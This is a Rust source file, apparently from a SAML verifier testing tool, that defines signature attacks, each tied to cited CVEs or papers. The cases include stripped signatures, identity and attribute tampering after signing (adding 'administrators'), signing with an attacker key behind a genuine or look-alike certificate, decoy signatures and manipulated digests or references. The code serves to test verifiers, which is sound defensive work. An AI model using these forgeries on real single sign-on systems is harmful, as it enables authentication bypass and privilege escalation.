//! Attacks on whether there is a signature, by whom, where, and over what.

use super::tools::{digest_as_it_stands, its_signature, octets_as_they_stand, sign_forgery, signed_element};
use super::{Attack, FORGERY, ORDINARY, has_signed_assertion, is_signed_plain};
use crate::idp;
use crate::key;
use crate::recipe::RecipeError;
use crate::sign::{Digested, Target};
use crate::step::Step;
use crate::tree::{Element, Node};
use crate::workshop::Workshop;

pub(super) const UNSIGNED: Attack = Attack {
    id: "unsigned",
    about: "There is no signature anywhere, and the message names the attacker.",
    source: "SIG-01; Somorovsky et al., On Breaking SAML, 2012; CVE-2015-5372",
    steps: &[Step::Signed(unsigned)],
    ..FORGERY
};

fn unsigned(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    workshop.response = workshop.forged_response()?;
    Ok(())
}

pub(super) const TAMPERED: Attack = Attack {
    id: "tampered",
    about: "After signing, NameID and attributes are changed to the attacker's; the signatures stay.",
    source: "SIG-12; XML Signature 3.2.1",
    steps: &[Step::Signed(|workshop| workshop.swap_identity())],
    ..FORGERY
};

pub(super) const TAMPERED_ATTRIBUTE: Attack = Attack {
    id: "tampered_attribute",
    about: "After signing, the last attribute gets one more value, `administrators`; the signatures stay.",
    source: "SIG-12; TXT-07",
    forges: false,
    steps: &[Step::Signed(tampered_attribute)],
    ..FORGERY
};

fn tampered_attribute(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let statement = workshop.assertion()?.child_mut("AttributeStatement");
    let attribute = statement.and_then(last_element).ok_or(RecipeError::Missing("Attribute"))?;
    let mut value = attribute.child("AttributeValue").cloned().ok_or(RecipeError::Missing("AttributeValue"))?;
    value.say("administrators");
    attribute.push(value);
    Ok(())
}

fn last_element(parent: &mut Element) -> Option<&mut Element> {
    parent.children.iter_mut().rev().find_map(|node| match node {
        Node::Element(element) => Some(element),
        _ => None,
    })
}

pub(super) const OTHER_KEY: Attack = Attack {
    id: "other_key",
    about: "Signed with the attacker's key, while KeyInfo shows the genuine certificate; names the attacker.",
    source: "SIG-13; KEY-03; CVE-2019-1006",
    steps: &[Step::Signed(other_key)],
    ..FORGERY
};

fn other_key(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let genuine = workshop.recipe.idp.certificate_der().to_vec();
    let plan = workshop.attacker_plan(vec![genuine]);
    sign_forgery(workshop, plan)
}

pub(super) const OWN_CERTIFICATE: Attack = Attack {
    id: "own_certificate",
    about: "Signed with the attacker's key, with a certificate of the same subject and dates over that key in KeyInfo.",
    source: "KEY-01; CVE-2024-32962; SAML Raider's certificate faking",
    steps: &[Step::Signed(own_certificate)],
    ..FORGERY
};

fn own_certificate(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let look_alike = idp::issue(&workshop.recipe.vendor.shape().certificate, &key::attacker());
    let plan = workshop.attacker_plan(vec![look_alike]);
    sign_forgery(workshop, plan)
}

pub(super) const MIXED_SIGNATURES: Attack = Attack {
    id: "mixed_signatures",
    about: "The Assertion's signature is genuine, the Response's is by the attacker's key.",
    source: "SIG-03; CVE-2024-8698; CVE-2024-9487",
    needs: "a signed Assertion that is not encrypted",
    applies: has_signed_assertion,
    steps: &[Step::Signed(mixed_signatures)],
    ..ORDINARY
};

fn mixed_signatures(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let plan = workshop.attacker_plan(workshop.plan.certificates.clone());
    workshop.strip_response_signature();
    workshop.sign_response_by(&plan)
}

pub(super) const DECOY_SIGNATURE: Attack = Attack {
    id: "decoy_signature",
    about: "A second Signature with the genuine value holds a forged Assertion in its Object.",
    source: "SIG-15; OneUptime #2981",
    forges: true,
    // Live only for a verifier that takes out every Signature with that value.
    live: false,
    needs: "a signed Assertion that is not encrypted",
    applies: has_signed_assertion,
    steps: &[Step::Signed(decoy_signature)],
    ..ORDINARY
};

fn decoy_signature(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let forged = workshop.forged_assertion()?;
    let object = workshop.ds("Object").holding(forged);
    workshop.strip_response_signature();
    let assertion = workshop.assertion()?;
    let genuine = assertion.child("Signature").ok_or(RecipeError::Missing("Signature"))?;
    let decoy = genuine.clone().holding(object);
    let position = assertion.position("Signature").unwrap_or_default();
    assertion.insert(position, decoy);
    Ok(())
}

pub(super) const SIGNATURE_MISPLACED: Attack = Attack {
    id: "signature_misplaced",
    about: "The genuine Signature stands inside the Subject, or inside the Status, where none belongs.",
    source: "SIG-04; core 5.4.1",
    needs: "a signed message that is not encrypted",
    applies: is_signed_plain,
    steps: &[Step::Signed(signature_misplaced)],
    ..ORDINARY
};

fn signature_misplaced(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let (signed, place) = if workshop.recipe.sign.assertion() {
        workshop.strip_response_signature();
        (workshop.assertion()?, "Subject")
    } else {
        (&mut workshop.response, "Status")
    };
    let signature = signed.take("Signature").ok_or(RecipeError::Missing("Signature"))?;
    signed.child_mut(place).ok_or(RecipeError::Missing("Subject or Status"))?.push(signature);
    Ok(())
}

pub(super) const DIGEST_COMMENT: Attack = Attack {
    id: "digest_comment",
    about: "Tampered, and a comment in DigestValue holds the digest of the tampered octets; SignatureValue still fits.",
    source: "SIG-09; CVE-2025-29775",
    steps: &[Step::Signed(digest_comment)],
    ..FORGERY
};

fn digest_comment(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    workshop.swap_identity()?;
    let digest = digest_as_it_stands(workshop)?;
    let value = its_signature(workshop)?.at_mut(&["SignedInfo", "Reference", "DigestValue"]);
    value.ok_or(RecipeError::Missing("DigestValue"))?.children.insert(0, Node::Comment(digest));
    Ok(())
}

pub(super) const TWO_REFERENCES: Attack = Attack {
    id: "two_references",
    about: "SignedInfo has the same Reference twice, both of them right.",
    source: "SIG-07; core 5.4.2; CVE-2026-33487",
    steps: &[Step::Plan(|plan, _| plan.references = vec![Target::Own, Target::Own])],
    ..ORDINARY
};

pub(super) const TWO_DIGESTS: Attack = Attack {
    id: "two_digests",
    about: "SignedInfo has two References to one ID, the first with the digest of what was there before, the second with that of the forgery; signed by the IdP.",
    source: "SIG-07; core 5.4.2; CVE-2026-33487",
    steps: &[Step::Signed(two_digests)],
    ..FORGERY
};

fn two_digests(workshop: &mut Workshop<'_>) -> Result<(), RecipeError> {
    let before = octets_as_they_stand(workshop)?;
    workshop.swap_identity()?;
    signed_element(workshop)?.0.take("Signature");
    workshop.plan.references = vec![Target::Own, Target::Own];
    workshop.plan.digested_octets = Digested::FirstOctets(before.into_bytes());
    if workshop.recipe.sign.assertion() { workshop.sign_assertion() } else { workshop.sign_response() }
}

pub(super) const NO_REFERENCE: Attack = Attack {
    id: "no_reference",
    about: "SignedInfo has no Reference, so the genuine SignatureValue covers nothing; names the attacker.",
    source: "SIG-07; CVE-2014-8152",
    steps: &[Step::Plan(|plan, _| plan.references.clear()), Step::Signed(|workshop| workshop.swap_identity())],
    ..FORGERY
};

pub(super) const DOCUMENT_REFERENCE: Attack = Attack {
    id: "document_reference",
    about: "The Reference is URI=\"\", the whole document, instead of the signed element's ID.",
    source: "SIG-06; core 5.4.2; jellyfin-plugin-sso #1003",
    live: false,
    steps: &[Step::Plan(|plan, _| plan.references = vec![Target::Document])],
    ..ORDINARY
};
